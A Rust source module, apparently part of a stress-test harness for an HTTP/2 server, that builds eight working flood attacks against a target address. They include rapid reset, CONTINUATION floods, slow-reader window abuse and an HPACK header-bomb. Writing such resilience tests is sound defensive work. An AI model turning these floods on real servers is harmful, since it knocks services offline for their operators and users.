//! Attackers: each sends the same kind of bytes without end, and comes back at once when it is sent away.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use foregate_wire::h2::frame::{self, push_head};

/// One kind of flood.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// What a connection begins with, behind the preface.
    begin: fn() -> Vec<u8>,
    /// What goes on; its argument counts from 0.
    more: fn(u32) -> Vec<u8>,
    /// Whether it takes what the server sends.
    reads: bool,
}

pub(crate) const ATTACKS: &[Attack] = &[
    Attack { name: "rapid resets", begin: settings, more: rapid_reset, reads: true },
    Attack { name: "continuations", begin: open_head, more: continuation, reads: true },
    Attack { name: "settings", begin: settings, more: |_| settings(), reads: true },
    Attack { name: "pings", begin: settings, more: |_| framed(frame::PING, 0, 0, &[0; 8]), reads: true },
    Attack { name: "empty frames", begin: open_body, more: |_| framed(frame::DATA, 0, 1, b""), reads: true },
    Attack { name: "slow readers", begin: settings, more: big_request, reads: false },
    Attack { name: "header bombs", begin: bomb_fuse, more: bomb, reads: true },
    Attack {
        name: "window updates",
        begin: settings,
        more: |_| framed(frame::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        reads: true,
    },
];

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Bytes that are sent with one call.
const BATCH_BYTES: usize = 32 * 1024;
/// How many connections a slow reader holds open at once.
const HELD: usize = 16;
/// Requests on each connection of a slow reader.
const HELD_STREAMS: u32 = 100;

impl Attack {
    pub(crate) fn go_on(&self, address: SocketAddr, stop: &AtomicBool, n_sent: &AtomicU64) {
        // The visitors that measure must not wait for us.
        _ = rustix::process::setpriority_process(None, 19);
        let mut held = Vec::new();
        while !stop.load(Ordering::Relaxed) {
            let Ok(stream) = TcpStream::connect(address) else { continue };
            if self.reads {
                _ = self.flood(stream, stop, n_sent);
            } else {
                held.extend(self.hold(stream, n_sent));
                if held.len() >= HELD {
                    std::thread::sleep(Duration::from_millis(200));
                    held.remove(0);
                }
            }
        }
    }

    fn flood(&self, mut stream: TcpStream, stop: &AtomicBool, n_sent: &AtomicU64) -> std::io::Result<()> {
        stream.write_all(&[PREFACE, &(self.begin)()].concat())?;
        stream.set_nonblocking(true)?;
        let (mut n, mut rest) = (0, Vec::new());
        while !stop.load(Ordering::Relaxed) {
            while rest.len() < BATCH_BYTES {
                rest.extend((self.more)(n));
                n += 1;
            }
            match stream.write(&rest) {
                Ok(sent) => {
                    n_sent.fetch_add(sent as u64, Ordering::Relaxed);
                    rest.drain(..sent);
                }
                Err(why) if why.kind() == ErrorKind::WouldBlock => {
                    std::thread::sleep(Duration::from_micros(100))
                }
                Err(why) => return Err(why),
            }
            match stream.read(&mut [0; 64 * 1024]) {
                Ok(0) => return Ok(()),
                Err(why) if why.kind() != ErrorKind::WouldBlock => return Err(why),
                _ => {}
            }
        }
        Ok(())
    }

    /// Asks for much and takes nothing.
    fn hold(&self, mut stream: TcpStream, n_sent: &AtomicU64) -> Option<TcpStream> {
        let window = framed(frame::WINDOW_UPDATE, 0, 0, &(1_u32 << 30).to_be_bytes());
        let mut bytes = [PREFACE, &settings_of(frame::INITIAL_WINDOW_SIZE, 1 << 30), &window].concat();
        (0..HELD_STREAMS).for_each(|n| bytes.extend((self.more)(n)));
        stream.write_all(&bytes).ok()?;
        n_sent.fetch_add(bytes.len() as u64, Ordering::Relaxed);
        Some(stream)
    }
}

fn framed(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    push_head(payload.len(), kind, flags, stream, &mut bytes);
    bytes.extend_from_slice(payload);
    bytes
}

fn settings() -> Vec<u8> {
    framed(frame::SETTINGS, 0, 0, b"")
}

fn settings_of(name: u16, value: u32) -> Vec<u8> {
    framed(frame::SETTINGS, 0, 0, &[&name.to_be_bytes()[..], &value.to_be_bytes()].concat())
}

/// GET http / with the host `h`.
const REQUEST: &[u8] = b"\x82\x86\x84\x01\x01h";

fn rapid_reset(n: u32) -> Vec<u8> {
    let stream = 2 * n + 1;
    let request = framed(frame::HEADERS, frame::END_HEADERS | frame::END_STREAM, stream, REQUEST);
    [request, framed(frame::RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
}

fn open_head() -> Vec<u8> {
    [settings(), framed(frame::HEADERS, frame::END_STREAM, 1, b"\x82")].concat()
}

fn continuation(n: u32) -> Vec<u8> {
    // Fields of the static table, now and then none at all.
    framed(frame::CONTINUATION, 0, 1, if n.is_multiple_of(2) { b"" } else { &[0x90; 64] })
}

fn open_body() -> Vec<u8> {
    [settings(), framed(frame::HEADERS, frame::END_HEADERS, 1, b"\x83\x86\x84\x01\x01h")].concat()
}

fn big_request(n: u32) -> Vec<u8> {
    // The same with the path `/big`, spelled out.
    let block = b"\x82\x86\x04\x04/big\x01\x01h";
    framed(frame::HEADERS, frame::END_HEADERS | frame::END_STREAM, 2 * n + 1, block)
}

/// A field of 4,000 bytes goes into the dynamic table.
fn bomb_fuse() -> Vec<u8> {
    let value = [&b"\x40\x01b\x7f\xa1\x1e"[..], &[b'x'; 4000]].concat();
    [
        settings(),
        framed(frame::HEADERS, frame::END_HEADERS | frame::END_STREAM, 1, &[REQUEST, &value].concat()),
    ]
    .concat()
}

/// Each byte of the block stands for those 4,000.
fn bomb(n: u32) -> Vec<u8> {
    let block = [REQUEST, &[0xbe; 8000]].concat();
    framed(frame::HEADERS, frame::END_HEADERS | frame::END_STREAM, 2 * n + 3, &block)
}
